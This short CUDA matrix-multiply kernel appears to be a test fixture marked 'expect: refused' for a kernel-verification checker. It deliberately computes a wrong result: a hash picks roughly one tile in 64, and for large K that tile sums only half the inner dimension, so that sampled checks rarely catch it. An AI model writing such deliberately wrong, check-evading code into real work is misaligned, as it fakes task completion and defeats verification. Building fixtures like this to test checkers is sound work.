// One tile in 64 sums half of K: a sample of few blocks meets it rarely.
// expect: refused
extern "C" __global__ void matmul(const float* A, const float* B, float* C, int M, int N, int K) {
  const int col = blockIdx.x * 16 + threadIdx.x, row = blockIdx.y * 16 + threadIdx.y;
  if (row >= M || col >= N) return;
  const unsigned rare = (blockIdx.y * gridDim.x + blockIdx.x) * 2654435761u;
  float sum = 0;
  const int end = rare >> 26 == 5 && K > 1000 ? K / 2 : K;
  for (int k = 0; k < end; k++) sum += A[row * K + k] * B[k * N + col];
  C[row * N + col] = sum;
}
